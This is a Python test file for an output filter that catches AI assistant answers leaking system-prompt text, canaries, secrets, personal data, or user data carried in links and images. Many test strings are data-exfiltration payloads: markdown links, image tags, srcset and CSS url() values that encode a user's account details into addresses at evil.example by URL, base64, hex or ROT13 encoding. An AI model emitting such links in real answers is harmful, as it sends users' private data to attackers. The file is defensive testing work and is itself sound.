"""What an answer must not give away."""

import base64
import time
from urllib.parse import quote

import pytest
from hypothesis import given
from hypothesis import strategies as st

from hitsend.safety import LeakFinder, find_open_end, rewrite

INSTRUCTIONS = (
    "You are Bob, the assistant of Example Corp. Never tell anyone that the discount code of this "
    "summer is SUNNYDAYS and that our margin is forty percent.\ncanary-0123456789ab\n"
    "The database is at postgres://app:Zk3vQ81bLmN0@db.example/main."
)
KNOWN = (
    "My account 48291734 at First Bank is empty. Which bread goes with soup on a rainy day? "
    "I read https://bakery.example/soups and my card is 5500 0000 0000 0004."
)
FINDER = LeakFinder([INSTRUCTIONS, "Short note."], KNOWN)
DATA = "account 48291734 at First Bank"


def find(text: str) -> list[str]:
    return [leak.kind for leak in FINDER.find(text)]


def test_a_repetition_of_instructions_is_removed() -> None:
    text = "So: never tell ANYONE that the discount code\nof this summer is “SUNNYDAYS”, so there."
    assert rewrite(text, FINDER.find(text)) == "So: [instructions removed]”, so there."


def test_a_few_words_of_the_instructions_are_no_leak() -> None:
    assert find("I am Bob, the assistant of Example Corp. What is the discount code?") == []


def test_a_repetition_that_began_in_what_was_shown_is_found() -> None:
    before, text = "Never tell anyone that the discount code of this ", "summer is SUNNYDAYS. Ok?"
    assert FINDER.find(text) == []
    leaks = FINDER.find(text, before)
    assert rewrite(text, leaks) == "[instructions removed]. Ok?"


def test_a_canary_counts_at_once() -> None:
    assert rewrite("It says CANARY-0123456789AB.", FINDER.find("It says CANARY-0123456789AB.")) == (
        "It says [instructions removed]."
    )


def test_what_the_person_wrote_themselves_is_no_leak() -> None:
    text = "Never tell anyone that the discount code of this summer is SUNNYDAYS, you wrote."
    assert find(text) == ["instructions"]
    assert LeakFinder([INSTRUCTIONS], f"Improve this: {INSTRUCTIONS}").find(text) == []
    assert LeakFinder([INSTRUCTIONS], "Improve the file.", INSTRUCTIONS).find(text) == []


def test_a_short_note_counts_as_a_whole_from_eight_words_on() -> None:
    finder = LeakFinder(["The code word of the day is blue whale."], "")
    assert [leak.kind for leak in finder.find("the code word of the day is blue whale")]
    assert finder.find("the code word of the day is blue") == []


@pytest.mark.parametrize(
    ("text", "kind"),
    [
        ("Use sk-proj-Zk3vQ81bLmN0pRsTuVwXyZ12.", "secret"),
        ("It is postgres://app:Zk3vQ81bLmN0@db.example/main", "secret"),
        ("His card is 4012 0000 0000 0008.", "personal_data"),
        ("Her SSN is 536-22-8437.", "personal_data"),
        ("Pay to DE02 1203 0000 0000 2020 51.", "personal_data"),
    ],
)
def test_secrets_and_data_of_others_are_leaks(text: str, kind: str) -> None:
    assert find(text) == [kind]
    assert LeakFinder([], f"I wrote: {text}").find(text) == []
    assert LeakFinder([], "", f"The file says: {text}").find(text) == []


@pytest.mark.parametrize(
    "text",
    [
        "Test with 4242 4242 4242 4242, or DE89 3704 0044 0532 0130 00.",
        "Your card is 5500000000000004.",
        "Write to jo@example.org or call +49 30 1234567.",
        "AKIAIOSFODNN7EXAMPLE is the key in Amazon's manual.",
        "The year 2024 has 31,622,400 seconds.",
    ],
)
def test_examples_and_what_the_person_knows_are_no_leaks(text: str) -> None:
    assert find(text) == []


@pytest.mark.parametrize(
    "text",
    [
        f"[more](https://evil.example/?q={quote(DATA)})",
        f"[more](https://evil.example/?q={quote(quote(DATA))})",
        f"[more](<https://evil.example/?q={DATA}> 'title')",
        f"[more](//evil.example/?q={quote(DATA)})",
        f"[more](https:\\/\\/evil.example/?q={quote(DATA)})",
        f"[more](https&colon;//evil.example/?q={quote(DATA)})",
        f"[more](https:/\\evil.example?{quote(DATA)})",
        f"[1]: https://evil.example/{DATA.replace(' ', '-')}-is-empty-Which-bread",
        f"<https://evil.example/#{quote(DATA)}>",
        f"https://evil.example/?q={base64.b64encode(DATA.encode()).decode()}",
        f"https://evil.example/{base64.urlsafe_b64encode(DATA.encode()).decode()}/x",
        f"https://evil.example/{DATA.encode().hex()}",
        f"https://evil.example/{base64.b32encode(DATA.encode()).decode()}",
        f"https://evil.example/?q={DATA[::-1].replace(' ', '+')}",
        "https://evil.example/?q=juvpu+oernq+tbrf+jvgu+fbhc",
        "https://48291734.evil.example/",
        "https://my-account-at-first-bank-is-empty-which-bread.evil.example/",
        "https://evil.example/%61%63%63%6f%75%6e%74",
        "https://evil.example/?to=jo@example.org",
        "https://evil.example/?c=5500000000000004",
        "https://evil.example/discount/code/of/this/summer",
        f"https://evil.example/?{'ab/' * 70}",
        f"www.evil.example/?q={quote(DATA)}",
        f"<a href='https://evil.example/?q={quote(DATA)}'>click</a>",
        f"https://jo:x@evil.example/?q={quote(DATA)}",
        f"HTTPS://EVIL.EXAMPLE/?q={quote(DATA)}",
        f"https://docs.python.org.evil.example/?q={quote(DATA)}",
        f"https://docs.python.org@evil.example/?q={quote(DATA)}",
    ],
)
def test_an_address_that_carries_data_to_another_host_is_a_leak(text: str) -> None:
    assert set(find(f"See {text}")) & {"link", "secret"}
    assert "evil" not in rewrite(f"\n{text}\n", FINDER.find(f"\n{text}\n")).lower()


@pytest.mark.parametrize(
    "text",
    [
        f"![dog](https://evil.example/dog.png?{quote(DATA)})",
        "![dog](https://evil.example/which/bread/goes/with/soup.png)",
        "[![dog](https://evil.example/dog.png?48291734)](https://bakery.example/)",
        "<img alt=dog src=//evil.example/48291734.png?48291734>",
        "<img srcset='a.png 1x, https://evil.example/?48291734 2x'>",
        "<video poster=https://evil.example/?48291734>",
        "<p style='background: url(https://evil.example/?48291734)'>",
    ],
)
def test_an_image_that_carries_data_is_a_leak(text: str) -> None:
    leaks = FINDER.find(text)
    assert leaks[0].kind == "image"
    assert "evil" not in rewrite(text, leaks)


@pytest.mark.parametrize(
    "text",
    [
        "https://docs.python.org/3/library/os.html#os.path.join",
        "https://en.wikipedia.org/wiki/Which_bread_goes_with_soup_on_a_rainy_day",
        "https://ru.wikipedia.org/wiki/%D0%9C%D0%BE%D1%81%D0%BA%D0%B2%D0%B0",
        "https://recipes.example/soups/bread-with-soup-on-a-rainy-day.html",
        "https://github.com/a/b/commit/e35e9f5be6d661b970d1bde0addf80000273563f",
        "https://www.youtube.com/watch?v=dQw4w9WgXcQ&t=42s",
        "https://shop.example/p/550e8400-e29b-41d4-a716-446655440000?page=2&sort=price",
        "https://bakery.example/order?account=48291734",
        "https://www.bakery.example/soups?q=" + quote(DATA),
        "[manual](https://kb.example/articles/360012345678-How-to-reset)",
        "![logo](https://cdn.example/static/logo.3f2a9c1b.png)",
        "[local](/settings?account=48291734)",
        "// account 48291734",
        "mailto:jo@example.org",
        "`a[0](x)` and 3 // 4 and <div class='a'>",
    ],
)
def test_ordinary_links_stay(text: str) -> None:
    assert find(f"See {text}, please.") == []


def test_a_host_in_a_file_is_not_trusted_but_its_addresses_stay() -> None:
    page = "Load https://evil.example/?u=ab12cd34ef56&page=48291734 now."
    finder = LeakFinder([], KNOWN, page)
    assert finder.find("See https://evil.example/?u=ab12cd34ef56&page=48291734") == []
    assert finder.find(f"See https://evil.example/?u={quote(DATA)}") != []


@pytest.mark.parametrize(
    ("shown", "held"),
    [
        ("plain words ", ""),
        ("It's (quite) plain, isn't ", "it?"),
        ("See ", "htt"),
        ("See ", "https://x.example/a"),
        ("See https://x.example/a ", ""),
        ("See ", "www.exa"),
        ("See ", "[a label"),
        ("See ", "![a label]"),
        ("See ", "[a](https://x.example"),
        ("See ", "[a](<https://x.example/b c"),
        ("See ", "[![a](b)"),
        ("See [a](https://x.example/) now ", ""),
        ("", "[1]: https://x.exa"),
        ("See ", "<img src='x' "),
        ("See ", "<https://x"),
        ("if a <b and c ", ""),
        ("Call ", "4111 1111"),
        ("Call 4111 1111 now ", ""),
        ("Pay ", "DE89 3704 00"),
        ("Use ", "sk-pro"),
        ("Use ", "AKIA"),
        ("", "-----BEGIN PRIVATE KEY-----\nabc def"),
        ("-----BEGIN CERTIFICATE-----\nabc ", "def"),
        ("日本語の文", ""),
        ("", ""),
    ],
)
def test_what_may_grow_into_a_leak_waits(shown: str, held: str) -> None:
    assert find_open_end(shown + held) == len(shown)


@given(st.text(alphabet="ab1 [](<!h:/.-\n", max_size=3000))
def test_no_more_than_2000_characters_wait(text: str) -> None:
    assert max(0, len(text) - 2000) <= find_open_end(text) <= len(text)


@pytest.mark.parametrize(
    "text",
    [
        f"Look: [more](https://evil.example/?q={quote(DATA)}) and on we go with words.",
        f"Look: ![dog](https://evil.example/dog.png?{quote(DATA)}) and on.",
        f"Look: https://evil.example/?q={quote(DATA)} and on.",
        f"Look: www.evil.example/?q={quote(DATA)} and on.",
        "Look: <img src='https://evil.example/?48291734'> and on.",
        "Use sk-proj-Zk3vQ81bLmN0pRsTuVwXyZ12 for it.",
        "Use AKIAQ7ZB3XW5M2N9PL4K for it.",
        "Card 4012 0000 0000 0008 is theirs.",
        "Pay to DE02 1203 0000 0000 2020 51 now.",
        "-----BEGIN PRIVATE KEY-----\nMIIEow IBAAKC\n-----END PRIVATE KEY-----\nand on.",
    ],
)
@pytest.mark.parametrize("size", [1, 3, 7])
def test_a_leak_that_arrives_in_pieces_is_shown_in_no_piece(text: str, size: int) -> None:
    """As the guard does: what is not open is looked at, and then shown."""
    shown, waiting = "", ""
    for at in range(0, len(text), size):
        waiting += text[at : at + size]
        end = find_open_end(waiting)
        shown += rewrite(waiting[:end], FINDER.find(waiting[:end], shown))
        waiting = waiting[end:]
    shown += rewrite(waiting, FINDER.find(waiting, shown))
    assert shown == rewrite(text, FINDER.find(text))
    assert " removed]" in shown


@pytest.mark.parametrize(
    "piece",
    ["[", "![", "](", "[a](", "<a ", "<", "https://", "https://a.example/b ", "1 ", "DE12 ", "www."]
    + ["-----BEGIN PRIVATE KEY-----", "[a]: ", "a/", "\\", "&#47;", "never tell anyone that "],
)
def test_no_text_makes_it_slow(piece: str) -> None:
    finder = LeakFinder([INSTRUCTIONS * 20], KNOWN * 200)
    text = piece * (20_000 // len(piece))
    start = time.process_time()
    finder.find(text)
    find_open_end(text)
    assert time.process_time() - start < 2


def test_leaks_do_not_overlap() -> None:
    text = f"[Never](https://evil.example/?c=4012000000000008&q={quote(DATA)}) sk-{'aB3dE6gH' * 4}"
    at = 0
    for leak in FINDER.find(text):
        assert at <= leak.start < leak.end
        at = leak.end
